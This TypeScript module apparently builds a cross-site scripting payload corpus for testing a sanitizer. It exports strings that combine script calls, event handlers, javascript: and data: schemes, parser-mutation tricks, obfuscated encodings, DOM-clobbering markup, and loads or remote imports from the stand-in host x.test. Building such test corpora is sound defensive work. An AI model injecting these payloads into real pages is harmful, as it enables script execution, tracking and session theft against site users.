/** Shapes of the public collections, made from their parts: what runs, how it is called, how it is disguised. */
const CALLS = ['alert(1)', 'alert`1`', 'top[`al`+`ert`](1)', '&#97;lert(1)', 'import(`//x.test`)'];
const HANDLERS = [
  'onload',
  'onerror',
  'onfocus autofocus',
  'onmouseover',
  'ontoggle open',
  'onanimationstart',
  'ONERROR',
  'on\nerror',
];
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'details',
  'input',
  'video src=x',
  'iframe',
  'math',
  'a href=x',
  'p',
  'table',
  'x',
];
const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\u0001javascript:', 'java\tscript:', 'java\nscript:', 'java&Tab;script:',
  'javascript&colon;', '&#106;avascript:', '&#x6A&#x61;vascript:', 'javascript\u200b:', 'vbscript:', 'data:text/html,',
  'data:text/html;base64,', 'data:image/svg+xml,', 'blob:', 'file:', 'view-source:', 'feed:javascript:', 'jar:', '//x.test/', '\\\\x.test\\',
]; // prettier-ignore

const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<xmp><p id="</xmp><img src=x onerror=alert(1)>">',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<a href="x" title="`><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<svg><desc><noscript>&lt;/noscript>&lt;img src onerror=alert(1)>',
  '\u2028<script>alert(1)</script>\u2029<ſcript>alert(1)</ſcript><İmg src=x onerror=alert(1)>',
];

const FRAMES = [
  '<iframe srcdoc="<script>alert(1)</script>">', '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">',
  '<base href="javascript:/a/+alert(1)//">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//x.test/x.css>', '<style>@import "//x.test/x.css";*{background:url(//x.test)}</style>',
  '<p style="background:url(//x.test);position:fixed">a</p>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><animate attributeName=href values=javascript:alert(1)>', '<form action=javascript:alert(1)><button formaction=javascript:alert(1)>a',
  '<a href=https://x.test ping=//x.test target=_self rel=opener download>a</a>', '<img src=//x.test/pixel.gif srcset=//x.test>',
  '<video poster=//x.test><source src=//x.test></video>', '<audio src=//x.test autoplay>', '<input type=image src=//x.test>',
  '<table background=//x.test>', '<portal src=//x.test>', '<marquee onstart=alert(1)>', '<isindex action=javascript:alert(1)>',
]; // prettier-ignore

const CLOBBERS = [
  'id=cookie',
  'name=body',
  'id=__proto__',
  'name=attributes',
  'id=querySelector name=forms',
  'class=post',
  'data-x=y',
].flatMap((attributes) => [
  `<a ${attributes} href=https://x.test>a</a>`,
  `<p ${attributes}>a</p>`,
  `<form ${attributes}><input name=parentNode></form>`,
]);

/** Texts that would run a script, fetch something or clobber a name if they were shown as they stand. */
export const PAYLOADS: readonly string[] = [
  ...CALLS.flatMap((call) => [
    `<script>${call}</script>`,
    `<SCRIPT/x>${call}</SCRIPT>`,
    `<scr<script>ipt>${call}</script>`,
    `"><script>${call}//`,
  ]),
  ...ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=alert(1)>`)),
  ...ELEMENTS.map((element) => `<${element.replace(' ', '/')}/onerror="alert(1)"`),
  ...SCHEMES.flatMap((scheme) => [
    `<a href="${scheme}alert(1)">a</a>`,
    `[a](${scheme}alert(1))`,
    `[a](<${scheme}alert(1)>)`,
    `![a](${scheme}alert(1))`,
  ]),
  ...SCHEMES.flatMap((scheme) => [
    `<${scheme}alert(1)>`,
    `[a]\n\n[a]: ${scheme}alert(1)`,
    `[a](https://x.test/"onclick="${scheme}alert(1))`,
  ]),
  ...MUTATIONS,
  ...FRAMES,
  ...CLOBBERS,
];
